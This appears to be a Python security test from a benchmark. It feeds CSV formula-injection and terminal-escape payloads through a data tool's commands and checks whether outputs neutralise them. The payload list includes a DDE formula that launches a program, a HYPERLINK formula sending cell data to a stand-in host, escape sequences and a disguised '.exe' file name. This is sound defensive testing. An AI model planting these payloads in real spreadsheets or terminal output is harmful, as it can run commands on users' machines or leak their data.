"""Text from data that a spreadsheet would run, or a terminal obey: as column names, labels, values and identifiers."""

from __future__ import annotations

import contextlib
import csv
import re
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd

from benchmarks.attacks.command_lines import Answer, call
from benchmarks.attacks.scoreboard import Attack, Attempt

PAYLOADS = (
    "=cmd|' /C calc'!A0", "\x1b[31mred\x1b[0m", '=HYPERLINK("http://a.b/?"&A1;"x")', "+1+cmd|x", "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+cmd|x", "\uff0bcmd", "\uff0dcmd", "\uff20cmd",
    "=\"a\"\"b\"", "==x", "+A1", "-A1", "\x1b]0;title\x07", "\x9b31m", "a\x07b\x08\x08c", "x\u202egpj.exe",
    "\x1b]8;;http://a.b\x1b\\link\x1b]8;;\x1b\\", "a\x1b[2J\x1b[H", "\x7f\x7f", "%0Acmd", "'=1+1", "=1;=2",
)  # fmt: skip
NUMBERS = ("-5", "+49 30 1234", "-1.5e-05", "-", "+", "-inf", "1", "(5)", "-5 %", "2024-01-01")
"""These stay as they are, whatever they begin with."""


def _furnish(folder: Path, payload: str) -> tuple[str, str]:
    """Write a table whose names, labels, values and identifiers hold the payload; return the names of two columns."""
    rng, n = np.random.default_rng(0), 120
    column, label = f"{payload}a".strip(), f"{payload}yes".strip()
    x = rng.normal(size=n)
    frame = pd.DataFrame({"id": ([payload, *NUMBERS] * n)[:n]})
    frame[column] = x.round(3)
    frame["shop"] = rng.choice([payload, "web", "city"], n)
    frame["y"] = np.where(x + rng.normal(0, 0.3, n) > 0.3, label, "no")
    frame.to_csv(folder / "rows.csv", index=False)
    frame.to_parquet(folder / "rows.parquet")
    frame.assign(score=1 / (1 + np.exp(-x)))[["score", "y"]].to_csv(folder / "scores.csv", index=False)
    return column, label


def poisoned(folder: Path, tries: int, seed: int) -> Iterator[Attempt]:
    """Yield what each command does with each payload: the first ``tries`` of them."""
    start = seed % len(PAYLOADS)
    for number, payload in enumerate((PAYLOADS[start:] + PAYLOADS[:start])[:tries]):
        place = folder / str(number)
        place.mkdir()
        with contextlib.chdir(place):
            column, label = _furnish(place, payload)
            for name, fault in _tried(place, payload, column, label):
                yield Attempt(f"{payload!r} in {name}", fault)


def _tried(place: Path, payload: str, column: str, label: str) -> Iterator[tuple[str, str]]:
    costs = ["--target", "y", f"--pos-label={label}", "--fn", "8", "--fp", "1"]
    shown = {"check": call(["check", "rows.csv", *costs])}
    train = ["train", "rows.parquet", *costs, "--drop", "id", "--method", "logistic", "--out", "model"]
    shown["train"] = call(train)
    for kind in ("csv", "parquet"):
        words = ["predict", "model", "rows.parquet", "--keep", "id,shop", "--out", f"p.{kind}"]
        shown[f"predict to {kind}"] = call(words if "," in column else [*words, f"--keep={column}"])
    shown["evaluate"] = call(["evaluate", "model", "rows.parquet", "--out", "e.csv"])
    shown["explain"] = call(["explain", "model", "rows.parquet", "--out", "x.csv"])
    shown["monitor"] = call(["monitor", "model", "rows.parquet", "--group-column", "shop"])
    shown["monitor, no such column"] = call(["monitor", "model", "rows.parquet", f"--time-column={payload}?"])
    shown["threshold"] = call(["threshold", "scores.csv", f"--pos-label={label}", "--fn", "8", "--fp", "1"])
    shown["threshold, curve"] = call(
        ["threshold", "scores.csv", f"--pos-label={label}", "--fn", "8", "--fp", "1", "--curve", "c.csv"]
    )
    shown["cost template"] = call(["check", "rows.parquet", "--target", "y", "--write-costs", "matrix.csv"])
    shown["costs, read again"] = call(["check", "rows.parquet", "--target", "y", "--costs", "matrix.csv"])
    shown["as JSON"] = call(["check", "rows.parquet", *costs, "--json"])
    shown["no such label"] = call(["check", "rows.csv", "--target", "y", f"--pos-label={payload}"])
    shown["no such file"] = call(["check", f"./{payload.replace('/', '')}.csv", "--target", "y"])
    files = {"predict to csv": "p.csv", "evaluate": "e.csv", "explain": "x.csv", "cost template": "matrix.csv"}
    for name, answer in shown.items():
        faults = [_obeyed(answer), _refused(answer, name)]
        if name in files and not faults[1]:
            faults.append(_runs(place / files[name]))
        if name.startswith("predict") and not any(faults):
            faults.append(_lost(place / f"p.{name.split()[-1]}", payload))
        yield name, "; ".join(filter(None, faults))


def _obeyed(answer: Answer) -> str:
    """Return what a terminal would obey."""
    for text in (answer.out, answer.err):
        if result := re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text):
            return f"shows {text[max(result.start() - 20, 0) : result.end() + 20]!r} raw"
    return ""


def _refused(answer: Answer, name: str) -> str:
    wrong = name.endswith(("no such column", "no such label", "no such file"))
    fine = (2,) if wrong else (0, 1, 3, 4) if name.startswith(("check", "monitor", "costs, read", "as JSON")) else (0,)
    return "" if answer.code in fine else f"exit code {answer.code}: {answer.err[-200:]!r}"


def _cells(path: Path) -> Iterator[str]:
    with path.open(newline="", encoding="utf-8") as file:
        for line in csv.reader(file):
            yield from line


def _runs(path: Path) -> str:
    """Return the first cell that a spreadsheet would run: one that begins as a formula and is no number."""
    for cell in _cells(path):
        begins = cell[:1] in set("=@\t\r\n\uff1d\uff20\uff0b\uff0d")
        signed = cell[:1] in set("+-") and any(c.isalpha() or c in "|!\"'" for c in cell) and not _is_number(cell)
        if begins or signed:
            return f"{path.name} holds the cell {cell!r}"
    return ""


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _lost(path: Path, payload: str) -> str:
    """Return what is not in the file as it was in the data: Parquet holds all as it is, CSV at most an apostrophe."""
    if path.suffix == ".parquet":
        kept = pd.read_parquet(path)["id"].tolist()
        return "" if kept[:11] == [payload, *NUMBERS] else f"ids became {kept[:11]}"
    with path.open(newline="", encoding="utf-8") as file:
        kept = [row["id"] for row in csv.DictReader(file)][:11]
    good = kept[1:] == list(NUMBERS) and kept[0] in (payload, f"'{payload}")
    return "" if good else f"ids became {kept}"


ATTACKS = (
    Attack(
        "spreadsheets",
        "formulas and escape codes as column names, labels, values and identifiers, through every command that shows "
        "or writes them: a CSV cell that begins as a formula, a control character on the terminal, an identifier that "
        "is lost",
        poisoned,
        long=len(PAYLOADS),
        short=1,
    ),
)
